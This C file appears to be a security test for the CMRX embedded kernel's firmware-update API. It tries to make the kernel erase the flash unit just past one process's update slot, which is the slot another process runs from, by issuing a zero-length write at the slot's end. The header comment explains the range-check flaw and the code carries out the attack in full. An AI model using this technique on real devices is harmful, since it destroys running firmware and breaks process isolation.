/* Attack: make the kernel erase flash past the end of a process's slot.
 *
 * An updater may write only the slot an updatable process does not run
 * from. A write of no bytes at the slot's very end passes the range check
 * (the empty range [size, size) lies in the slot), and a write that
 * starts an erase unit erases it: the unit just past the slot. Below the
 * commit log the slots of updatable processes lie back to back, each
 * process's pair below the pair of the one declared before it, so the unit
 * past slot_t1's slot B is the first of slot_t0's slot A, the slot slot_t0
 * runs from. */
#include "attack.h"
#include "slot_target.h"

#include <cmrx/update.h>
#include <string.h>

/* slot_t0's slot A, where its running image's header lies (the layout is
 * no secret: the firmware image and its map are public). */
extern const uint8_t __cmrx_p_slot_t0_slot[];

static int pid_of(const char *name)
{
    static struct cmrx_update_info info;
    for (unsigned pid = 0; cmrx_update_info(pid, &info) == CMRX_OK; pid++) {
        if (strcmp(info.name, name) == 0) {
            return (int)pid;
        }
    }
    return -1;
}

static int attack(void *arg)
{
    (void)arg;
    static struct cmrx_update_info info;
    static const uint32_t nothing[2];
    const volatile struct cmrx_image *img = (const volatile void *)__cmrx_p_slot_t0_slot;
    int t0 = pid_of("slot_t0"), t1 = pid_of("slot_t1");
    if (t0 < 0 || t1 < 0 || cmrx_update_info((unsigned)t1, &info) != CMRX_OK) {
        cmrx_printf("CHECK FAILED attack_slotedge: no updatable processes\n");
        return 1;
    }
    cmrx_printf("attack_slotedge: slot_t0 runs version %lu (magic %08lx), answers %d\n",
                (unsigned long)img->version, (unsigned long)img->magic,
                cmrx_rpc_call(&slot_t0_svc, ping));
    /* A byte past slot_t1's slot is refused; no byte at its end: */
    int past = cmrx_update_write_some((unsigned)t1, info.slot_size, nothing, 4);
    int rc = cmrx_update_write_some((unsigned)t1, info.slot_size, nothing, 0);
    cmrx_printf("attack_slotedge: writing 4 bytes at slot_t1's end: %d, none: %d\n", past, rc);
    if (img->magic != CMRX_IMAGE_MAGIC) {
        ATTACK_SUCCEEDED("the kernel erased slot_t0's running slot (magic now %08lx)",
                         (unsigned long)img->magic);
    }
    attack_done(2);
    return 0;
}
CMRX_THREAD(attack, NULL);
